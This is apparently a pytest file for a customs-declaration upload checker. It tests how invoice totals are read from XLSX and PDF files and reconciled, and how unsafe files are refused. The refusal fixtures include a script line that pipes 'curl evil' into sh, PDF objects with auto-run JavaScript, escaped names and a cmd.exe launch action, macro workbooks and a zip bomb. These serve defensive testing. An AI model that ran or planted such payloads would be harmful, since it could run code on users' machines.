"""Checks on uploaded declaration documents: type, safety, and the invoice total."""

from decimal import Decimal

import pytest

from declarations.document_checks import (
    PDF,
    XLSX,
    InvoiceReading,
    inspect_document,
    parse_amount,
    read_invoice,
    reconcile_invoice,
)
from tests.declarations.data import documents

INVOICE = "commercial_invoice"
PACKING_LIST = "packing_list"
ORIGIN = "certificate_of_origin"


# --- Invoices that are read ---------------------------------------------------


def test_xlsx_invoice_total_and_currency_are_read_from_the_cells():
    """An XLSX invoice's total comes from the cell beside "Total", its currency
    from the "Currency" cell; subtotals and weights are passed over."""
    inspection = inspect_document(
        data=documents.invoice_xlsx(total=1234.5, currency="EUR"),
        filename="INV-2024-0017.xlsx",
        kind=INVOICE,
    )

    assert inspection.accepted
    assert inspection.content_type == XLSX
    assert inspection.problems == ()
    assert inspection.warnings == ()
    assert inspection.invoice == InvoiceReading(
        total=Decimal("1234.5"), currency="EUR", source="XLSX cell Invoice!F23"
    )


def test_xlsx_invoice_matching_the_declaration_reconciles_cleanly():
    """An invoice whose total and currency match the declared value raises nothing."""
    reading = read_invoice(data=documents.invoice_xlsx(total=950.0), content_type=XLSX)

    assert reading is not None
    assert (
        reconcile_invoice(
            reading=reading, declared_total=Decimal("950.00"), declared_currency="EUR"
        )
        == []
    )


def test_xlsx_invoice_over_the_declared_value_is_a_validation_issue():
    """An invoice total 26% above the declared value is reported with both sums."""
    reading = read_invoice(
        data=documents.invoice_xlsx(total=120.0, currency="USD"), content_type=XLSX
    )

    assert reading is not None
    assert reconcile_invoice(
        reading=reading, declared_total=Decimal("95.00"), declared_currency="USD"
    ) == [
        "The invoice total USD 120.00 differs from the declared value USD 95.00 by "
        "26%: correct the item values or upload the right invoice."
    ]


@pytest.mark.parametrize(
    ("cells", "formats", "expected"),
    [
        pytest.param(
            {"E9": "Total", "F9": 100.0, "E10": "Grand total", "F10": 123.45},
            {"F10": '"€"#,##0.00'},
            (Decimal("123.45"), "EUR"),
            id="grand-total-wins-currency-from-number-format",
        ),
        pytest.param(
            {"B4": "合计", "C4": "CNY", "D4": 8800},
            {},
            (Decimal("8800"), "CNY"),
            id="chinese-label-currency-code-between",
        ),
        pytest.param(
            {"A1": "总计", "A2": 5000, "C1": "Currency: RMB"},
            {},
            (Decimal("5000"), "CNY"),
            id="chinese-grand-total-value-below",
        ),
        pytest.param(
            {"E9": "Total (USD)", "F9": "1,234.50"},
            {},
            (Decimal("1234.50"), "USD"),
            id="code-in-label-amount-as-text",
        ),
        pytest.param(
            {"E9": "Total", "F9": 99.9},
            {"F9": "[$$-409]#,##0.00"},
            (Decimal("99.9"), "USD"),
            id="us-dollar-locale-format",
        ),
        pytest.param(
            {"E9": "Total", "F9": 99.9},
            {"F9": "¥#,##0"},
            (Decimal("99.9"), None),
            id="bare-yen-is-ambiguous",
        ),
    ],
)
def test_xlsx_invoice_layouts(cells, formats, expected):
    """Totals are found under English and Chinese labels, to the right or below,
    and the currency from codes, labels and number formats; a bare ¥ or $
    names no currency."""
    reading = read_invoice(
        data=documents.xlsx(cells, formats=formats), content_type=XLSX
    )

    assert reading is not None
    assert (reading.total, reading.currency) == expected


def test_pdf_invoice_total_is_read_from_the_text():
    """A PDF invoice's "Total EUR 38.00" line gives the total and currency."""
    data = documents.pdf(
        ["COMMERCIAL INVOICE", "2 x Widget 19.00 EUR", "Total EUR 38.00"]
    )

    inspection = inspect_document(data=data, filename="invoice.pdf", kind=INVOICE)

    assert inspection.accepted
    assert inspection.content_type == PDF
    assert inspection.invoice == InvoiceReading(
        total=Decimal("38.00"), currency="EUR", source="PDF text page 1"
    )
    assert (
        reconcile_invoice(
            reading=inspection.invoice,
            declared_total=Decimal("38"),
            declared_currency="eur",
        )
        == []
    )


def test_pdf_invoice_with_a_decimal_comma():
    """A total written "€1.234,56" is EUR 1234.56, not 1.23456."""
    data = documents.pdf(["RECHNUNG", "Zwischensumme 1.200,00", "Total: €1.234,56"])

    reading = read_invoice(data=data, content_type=PDF)

    assert reading == InvoiceReading(
        total=Decimal("1234.56"), currency="EUR", source="PDF text page 1"
    )


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        pytest.param(
            ["Total USD 10.00", "Grand total USD 12.50", "Total 3 cartons"],
            (Decimal("12.50"), "USD"),
            id="grand-total-over-plain-total",
        ),
        pytest.param(
            ["Currency: GBP", "Total weight 12.5 kg", "Total 3 cartons 1,299.00"],
            (Decimal("1299.00"), "GBP"),
            id="currency-label-and-units-skipped",
        ),
        pytest.param(
            ["Subtotal 100.00", "VAT 20%", "Total amount due", "USD 120.00"],
            (Decimal("120.00"), "USD"),
            id="amount-on-the-next-line",
        ),
        pytest.param(
            ["Montant total TTC : 1 234,56 EUR"],
            (Decimal("1234.56"), "EUR"),
            id="french-spaces-and-comma",
        ),
    ],
)
def test_pdf_invoice_layouts(lines, expected):
    """The last and strongest total line wins; weights, counts and percentages
    are not amounts."""
    reading = read_invoice(data=documents.pdf(lines), content_type=PDF)

    assert reading is not None
    assert (reading.total, reading.currency) == expected


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("1.234,56", Decimal("1234.56")),
        ("1,234.56", Decimal("1234.56")),
        ("1 234,56", Decimal("1234.56")),
        ("1'234.56", Decimal("1234.56")),
        ("38,00", Decimal("38.00")),
        ("1,234,567.89", Decimal("1234567.89")),
        ("1.234", Decimal("1234")),
        ("12.5", Decimal("12.5")),
        ("abc", None),
    ],
)
def test_amounts_with_any_thousands_separator_and_decimal_mark(text, amount):
    """Both European and English number writing give the same amount."""
    assert parse_amount(text) == amount


def test_invoice_without_a_total_is_accepted_with_a_warning():
    """An invoice with no readable total is not refused: the user is warned."""
    data = documents.xlsx({"A1": "Packing details", "A2": "see attached"})

    inspection = inspect_document(data=data, filename="invoice.xlsx", kind=INVOICE)

    assert inspection.accepted
    assert inspection.invoice is None
    assert len(inspection.warnings) == 1
    assert "No invoice total was found in invoice.xlsx" in inspection.warnings[0]


def test_the_content_not_the_name_decides_the_type():
    """A PDF named .xlsx is judged as a PDF, and the user is told."""
    data = documents.pdf(["Total EUR 38.00"])

    inspection = inspect_document(data=data, filename="invoice.xlsx", kind=INVOICE)

    assert inspection.accepted
    assert inspection.content_type == PDF
    assert inspection.invoice is not None
    assert inspection.warnings == (
        "invoice.xlsx is named .xlsx but is a PDF; it was checked as such.",
    )


# --- Reconciling ---------------------------------------------------------------


def test_invoice_in_another_currency_is_reported():
    """An invoice in USD for a declaration in EUR is reported; totals in two
    currencies are not compared."""
    reading = InvoiceReading(total=Decimal("100"), currency="USD", source="PDF")

    messages = reconcile_invoice(
        reading=reading, declared_total=Decimal("100"), declared_currency="EUR"
    )

    assert len(messages) == 1
    assert messages[0].startswith(
        "The invoice is in USD but the declaration says EUR: "
    )


@pytest.mark.parametrize(
    ("invoice_total", "declared_total", "consistent"),
    [
        ("10.90", "10.00", True),  # within EUR 1.00
        ("11.10", "10.00", False),
        ("1019.00", "1000.00", True),  # within 2%
        ("1021.00", "1000.00", False),
        ("979.50", "1000.00", False),
    ],
)
def test_tolerance_is_the_larger_of_one_unit_and_two_percent(
    invoice_total, declared_total, consistent
):
    """Small totals get EUR 1.00 of slack, large ones 2% of the declared value."""
    reading = InvoiceReading(
        total=Decimal(invoice_total), currency="EUR", source="PDF text page 1"
    )

    messages = reconcile_invoice(
        reading=reading,
        declared_total=Decimal(declared_total),
        declared_currency="EUR",
    )

    assert (messages == []) is consistent


def test_invoice_without_currency_is_compared_in_the_declared_currency():
    """A total with no currency is still compared with the declared value."""
    reading = InvoiceReading(total=Decimal("200"), currency=None, source="PDF")

    messages = reconcile_invoice(
        reading=reading, declared_total=Decimal("100"), declared_currency="GBP"
    )

    assert messages == [
        "The invoice total GBP 200.00 differs from the declared value GBP 100.00 by "
        "100%: correct the item values or upload the right invoice."
    ]


# --- What is refused -----------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "what"),
    [
        pytest.param(documents.elf(), "a Linux or Unix program (ELF)", id="elf"),
        pytest.param(documents.pe(), "a Windows program (PE/MZ)", id="pe"),
        pytest.param(b"\xcf\xfa\xed\xfe" + bytes(60), "a macOS program", id="mach-o"),
        pytest.param(b"#!/bin/sh\ncurl evil | sh\n", "a script (#!)", id="script"),
    ],
)
def test_program_renamed_pdf_is_refused(data, what):
    """A program is refused whatever it is named."""
    inspection = inspect_document(data=data, filename="invoice.pdf", kind=INVOICE)

    assert not inspection.accepted
    assert inspection.invoice is None
    assert len(inspection.problems) == 1
    assert inspection.problems[0].startswith(f"invoice.pdf is {what}")
    assert (
        "upload the commercial invoice as a PDF or XLSX file."
        in (inspection.problems[0])
    )


def test_png_as_invoice_is_refused_naming_the_accepted_types():
    """A PNG named .csv is a PNG, and an invoice must be a PDF or XLSX."""
    inspection = inspect_document(
        data=documents.png(), filename="invoice.csv", kind=INVOICE
    )

    assert not inspection.accepted
    assert inspection.content_type == "image/png"
    assert inspection.problems == (
        "invoice.csv is a PNG image, which is not accepted for a commercial "
        "invoice: upload a PDF or XLSX file.",
    )


def test_xlsx_certificate_of_origin_is_refused():
    """A certificate of origin is a PDF or a scan, never a spreadsheet."""
    inspection = inspect_document(
        data=documents.invoice_xlsx(), filename="origin.xlsx", kind=ORIGIN
    )

    assert not inspection.accepted
    assert inspection.problems[0].endswith("upload a PDF, or a JPEG or PNG scan.")


def test_certificate_of_origin_scan_is_accepted():
    """A JPEG scan of a certificate of origin is accepted, and no invoice is read."""
    inspection = inspect_document(
        data=documents.jpeg(), filename="origin.jpg", kind=ORIGIN
    )

    assert inspection.accepted
    assert inspection.content_type == "image/jpeg"
    assert inspection.problems == ()
    assert inspection.invoice is None


def test_packing_list_pdf_is_accepted_without_reading_a_total():
    """Only commercial invoices are read for a total."""
    inspection = inspect_document(
        data=documents.pdf(["PACKING LIST", "Total 3 cartons"]),
        filename="packing.pdf",
        kind=PACKING_LIST,
    )

    assert inspection.accepted
    assert inspection.invoice is None
    assert inspection.warnings == ()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            documents.rezip(
                documents.invoice_xlsx(), add={"xl/vbaProject.bin": bytes(512)}
            ),
            id="vba-project",
        ),
        pytest.param(
            documents.rezip(
                documents.invoice_xlsx(), add={}, main_type=documents.XLSM_MAIN
            ),
            id="macro-enabled-content-type",
        ),
    ],
)
def test_macro_enabled_workbook_is_refused(data):
    """An .xlsm, however named, is refused with how to save it without macros."""
    inspection = inspect_document(data=data, filename="invoice.xlsx", kind=INVOICE)

    assert not inspection.accepted
    assert inspection.content_type == "application/vnd.ms-excel.sheet.macroEnabled.12"
    assert inspection.problems == (
        "invoice.xlsx is a macro-enabled Office file, which we do not accept: save "
        "it as an Excel Workbook (.xlsx) without macros, or export it as PDF, and "
        "upload that.",
    )
    assert inspection.invoice is None


def test_legacy_office_file_is_refused():
    """An old .xls (OLE2) may hide macros: the user is told to export PDF or XLSX."""
    inspection = inspect_document(
        data=documents.ole2(), filename="invoice.xls", kind=INVOICE
    )

    assert not inspection.accepted
    assert inspection.content_type == "application/x-ole-storage"
    assert "export it as PDF or XLSX" in inspection.problems[0]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            documents.pdf(
                ["Total EUR 38.00"],
                catalog="/OpenAction 6 0 R ",
                objects=("<< /S /JavaScript /JS (app.alert\\(1\\)) >>",),
            ),
            id="open-action-javascript",
        ),
        pytest.param(
            documents.pdf(
                ["Total EUR 38.00"],
                catalog="/OpenAction 6 0 R ",
                objects=("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",),
            ),
            id="escaped-names",
        ),
        pytest.param(
            documents.pdf(
                ["Total EUR 38.00"],
                catalog="/OpenAction 6 0 R ",
                objects=("<< /S /Launch /F (cmd.exe) >>",),
            ),
            id="launch",
        ),
        pytest.param(documents.pdf_with_compressed_script(), id="in-object-stream"),
    ],
)
def test_pdf_with_scripts_or_launch_actions_is_refused(data):
    """A PDF that runs JavaScript or starts a program is refused."""
    inspection = inspect_document(data=data, filename="invoice.pdf", kind=INVOICE)

    assert not inspection.accepted
    assert inspection.problems == (
        "invoice.pdf contains JavaScript or actions that start programs, which we "
        "do not accept: print it to a new PDF (Print > Save as PDF) and upload that.",
    )


def test_pdf_with_a_plain_open_action_is_accepted():
    """Opening at page 1 is not active content."""
    data = documents.pdf(["Total EUR 38.00"], catalog="/OpenAction [3 0 R /Fit] ")

    assert inspect_document(data=data, filename="invoice.pdf", kind=INVOICE).accepted


def test_secured_pdf_that_opens_without_a_password_is_read():
    """A PDF encrypted only against editing (as invoicing software does) is read."""
    data = documents.encrypted_pdf(["Total EUR 38.00"], user_password="")

    inspection = inspect_document(data=data, filename="invoice.pdf", kind=INVOICE)

    assert inspection.accepted
    assert inspection.invoice is not None
    assert inspection.invoice.total == Decimal("38.00")


def test_pdf_that_needs_a_password_is_refused():
    """Nobody can check a PDF they cannot open: the user is asked for a copy."""
    data = documents.encrypted_pdf(["Total EUR 38.00"], user_password="secret")

    inspection = inspect_document(data=data, filename="invoice.pdf", kind=INVOICE)

    assert inspection.problems == (
        "invoice.pdf is protected by a password: upload a copy without a password.",
    )


def test_oversize_file_is_refused_with_its_size_and_the_limit():
    """A file over the limit is refused, saying how big it is and what is allowed."""
    data = documents.pdf(["Total EUR 38.00"]) + b"%" + bytes(3 * 1024 * 1024)

    inspection = inspect_document(
        data=data, filename="scan.pdf", kind=ORIGIN, max_bytes=2 * 1024 * 1024
    )

    assert not inspection.accepted
    assert inspection.problems[0].startswith(
        "scan.pdf is 3 MB, over the 2 MB limit: upload a smaller file"
    )


def test_empty_file_is_refused():
    """An empty upload is refused."""
    inspection = inspect_document(data=b"", filename="invoice.pdf", kind=INVOICE)

    assert not inspection.accepted
    assert inspection.problems == ("invoice.pdf is empty: upload the file again.",)


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return documents.xlsx_with_big_sheet(megabytes=150)


def test_workbook_unpacking_past_the_limit_is_refused_unopened(bomb):
    """An XLSX that would unpack to 150 MB is refused from its zip directory."""
    assert len(bomb) < 2 * 1024 * 1024

    inspection = inspect_document(data=bomb, filename="invoice.xlsx", kind=INVOICE)

    assert not inspection.accepted
    assert inspection.problems[0].startswith(
        "invoice.xlsx would unpack to 150.8 MB, over the 100 MB we open"
    )
    assert read_invoice(data=bomb, content_type=XLSX) is None


def test_workbook_compressed_absurdly_is_refused():
    """A small XLSX whose sheet is compressed over 100 to 1 is refused as unsafe."""
    data = documents.xlsx_with_big_sheet(megabytes=5)

    inspection = inspect_document(data=data, filename="invoice.xlsx", kind=INVOICE)

    assert not inspection.accepted
    assert "is compressed more than 100 to 1" in inspection.problems[0]


def test_unknown_document_kind_is_a_programming_error():
    """Only the three known kinds can be inspected."""
    with pytest.raises(ValueError, match="Unknown document kind"):
        inspect_document(data=b"%PDF-1.4", filename="x.pdf", kind="bill_of_lading")
